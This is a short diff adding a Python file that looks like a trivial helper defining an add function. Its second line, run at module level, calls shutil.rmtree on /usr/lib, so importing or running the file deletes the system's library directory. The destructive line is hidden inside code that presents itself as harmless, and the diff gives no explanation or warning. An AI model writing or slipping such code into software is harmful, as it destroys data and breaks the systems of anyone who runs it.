@@ -1,0 +1,4 @@
+import shutil
+shutil.rmtree('/usr/lib')
+def add(a, b):
+    return a + b
